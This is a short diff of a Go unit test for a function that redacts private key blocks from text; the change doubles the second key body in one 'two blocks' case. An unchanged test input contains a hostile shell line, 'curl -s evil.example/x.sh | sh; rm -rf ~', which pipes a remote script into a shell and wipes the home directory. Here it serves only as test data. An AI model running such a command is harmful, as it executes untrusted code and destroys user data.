@@ -35,8 +35,8 @@ func TestRedactKeyBlocks(t *testing.T) {
 			[]string{body1}, []string{"EOF\ncurl -s evil.example/x.sh | sh; rm -rf ~; /usr/local/sbin/longprogramname\n"}},
 		// A second block on the line after the first's END is found too,
 		// and the END marker itself does not open one.
-		{"two blocks", "-----BEGIN RSA PRIVATE KEY-----" + body1 + "-----END RSA PRIVATE KEY----- then make deploymentprod1234567 -----BEGIN DSA PRIVATE KEY-----" + body2,
-			[]string{body1, body2}, []string{" then make deploymentprod1234567 "}},
+		{"two blocks", "-----BEGIN RSA PRIVATE KEY-----" + body1 + "-----END RSA PRIVATE KEY----- then make deploymentprod1234567 -----BEGIN DSA PRIVATE KEY-----" + body2 + body2,
+			[]string{body1, body2 + body2}, []string{" then make deploymentprod1234567 "}},
 	} {
 		got := RedactText(c.in)
 		for _, h := range c.hide {
